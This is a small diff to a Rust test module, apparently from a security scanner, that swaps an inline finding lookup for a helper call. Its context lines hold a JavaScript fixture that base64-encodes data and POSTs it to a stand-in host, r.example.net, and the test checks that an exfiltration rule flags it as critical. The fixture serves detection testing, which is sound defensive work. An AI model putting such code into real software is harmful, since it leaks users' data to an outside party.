@@ -190,11 +190,7 @@ mod tests {
                 "const https = require('https');\nexports.upload = function (rows) {\n  const body = Buffer.from(JSON.stringify(rows)).toString('base64');\n  https.request({ hostname: 'r.example.net', method: 'POST' }).end(body);\n};\n",
             ),
         ]);
-        let f = s
-            .findings
-            .iter()
-            .find(|f| f.rule == "code/env-exfiltration")
-            .expect("a finding");
+        let f = crate::rules::test_util::finding(&s, "code/env-exfiltration");
         assert_eq!((f.file.as_str(), f.line), ("report.js", 4));
         assert_eq!(f.severity, diligence_finding::Severity::Critical);
         let chain: Vec<(&str, u32)> = f
